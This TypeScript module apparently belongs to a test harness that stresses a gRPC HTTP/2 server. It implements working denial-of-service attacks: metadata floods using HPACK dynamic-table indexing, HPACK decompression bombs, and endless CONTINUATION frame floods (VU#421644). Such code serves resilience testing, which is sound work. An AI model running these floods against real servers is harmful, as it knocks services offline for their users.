/**
 * Attacks by metadata.
 *
 * @module
 */

import { Flag, frame, FrameType } from "../../_testdata/raw_frames.ts";
import type { Attack, Means } from "../attack.ts";
import { blockOf, callFrames, concat, headersFrames } from "../raw_peer.ts";

/** How long a value is that fits into the table of HPACK, beside its name. */
const VALUE_BYTES = 4000;

/** How often it fits into 64 KiB of fields. */
const TIMES = 15;

/** Literal Header Field with Incremental Indexing, New Name: RFC 7541, 6.2.1. */
export function indexedField(name: string, value: string): Uint8Array {
  // A literal without indexing, but for the first byte.
  const bytes = blockOf([[name, value]]);
  bytes[0] = 0x40;
  return bytes;
}

/** The newest field of the dynamic table, some times. */
export function newest(times: number): Uint8Array {
  return new Uint8Array(times).fill(0x80 | 62);
}

const HEAD = blockOf([
  [":method", "POST"],
  [":scheme", "http"],
  [":path", "/grpclib.test.Echo/Bidi"],
  [":authority", "raw"],
  ["te", "trailers"],
  ["content-type", "application/grpc"],
]);
const UNARY_HEAD = blockOf([
  [":method", "POST"],
  [":scheme", "http"],
  [":path", "/grpclib.test.Echo/Unary"],
  [":authority", "raw"],
  ["te", "trailers"],
  ["content-type", "application/grpc"],
]);
const COMMAS = indexedField("x-bin", ",".repeat(VALUE_BYTES));

/** Opens calls that stay, with as many values as metadata can have. */
async function manyValues({ open, goesOn, pause }: Means): Promise<void> {
  const peer = await open();
  const first = concat([HEAD, COMMAS, newest(TIMES - 1)]);
  const next = concat([HEAD, newest(TIMES)]);
  for (let i = 0; i < 990 && goesOn() && !peer.isClosed; i++) {
    await peer.write(headersFrames(peer.newStream(), i === 0 ? first : next));
    if (i % 10 === 9) await pause(1);
  }
  while (goesOn() && !peer.isClosed) await pause(50);
}

/** Makes whole calls with them, at a rate. */
async function manyValuesAtRate(
  { open, goesOn, pause }: Means,
): Promise<void> {
  const peer = await open();
  const first = concat([UNARY_HEAD, COMMAS, newest(TIMES - 1)]);
  const next = concat([UNARY_HEAD, newest(TIMES)]);
  for (let i = 0; goesOn() && !peer.isClosed; i++) {
    await peer.write(callFrames(peer.newStream(), i === 0 ? first : next));
    if (i % 4 === 3) await pause(20);
  }
}

/** HPACK bombs: a short block that stands for a long list. */
function hpackBomb(acknowledges: boolean) {
  return async ({ open, goesOn }: Means): Promise<void> => {
    const peer = await open({ acknowledges });
    const value = indexedField("x-long", "a".repeat(VALUE_BYTES));
    const streamId = peer.newStream();
    const reply = peer.reply(streamId);
    await peer.write(callFrames(streamId, concat([UNARY_HEAD, value])));
    // By then SETTINGS are acknowledged.
    await reply;
    const bomb = concat([UNARY_HEAD, newest(14_000)]);
    while (goesOn() && !peer.isClosed) {
      await peer.write(headersFrames(peer.newStream(), bomb, true));
    }
  };
}

/** A header block that never ends: VU#421644. */
async function continuation({ open, goesOn }: Means): Promise<void> {
  const peer = await open();
  const streamId = peer.newStream();
  await peer.write(frame(FrameType.HEADERS, { streamId }, HEAD));
  const more = blockOf([["x-more", "a".repeat(1000)]]);
  const part = frame(FrameType.CONTINUATION, { streamId }, more);
  const parts = concat(Array.from({ length: 100 }, () => part));
  while (goesOn() && !peer.isClosed) await peer.write(parts);
}

/** The same in empty frames. */
async function emptyContinuation({ open, goesOn }: Means): Promise<void> {
  const peer = await open();
  const streamId = peer.newStream();
  await peer.write(frame(FrameType.HEADERS, {
    flags: Flag.END_STREAM,
    streamId,
  }, HEAD));
  const part = frame(FrameType.CONTINUATION, { streamId });
  const parts = concat(Array.from({ length: 1000 }, () => part));
  while (goesOn() && !peer.isClosed) await peer.write(parts);
}

/** The attacks by metadata. */
export const METADATA_ATTACKS: readonly Attack[] = [
  {
    name: "D1-values",
    what: "990 calls that stay, each with 60 000 empty `-bin` values by index",
    seconds: 10,
    shortSeconds: 1,
    run: manyValues,
  },
  {
    name: "D1-values-listener",
    what: "the same in 200 whole calls a second, with listeners",
    victim: { listens: true },
    seconds: 12,
    run: manyValuesAtRate,
  },
  {
    name: "hpack-bomb",
    what: "blocks of 14 KB that stand for 56 MB",
    seconds: 8,
    ends: true,
    run: hpackBomb(true),
  },
  {
    name: "hpack-bomb-early",
    what: "the same before SETTINGS are acknowledged, which they never are",
    seconds: 8,
    ends: true,
    run: hpackBomb(false),
  },
  {
    name: "continuation",
    what: "a header block that never ends (VU#421644)",
    seconds: 6,
    ends: true,
    run: continuation,
  },
  {
    name: "continuation-empty",
    what: "the same in empty frames",
    seconds: 6,
    ends: true,
    run: emptyContinuation,
  },
];
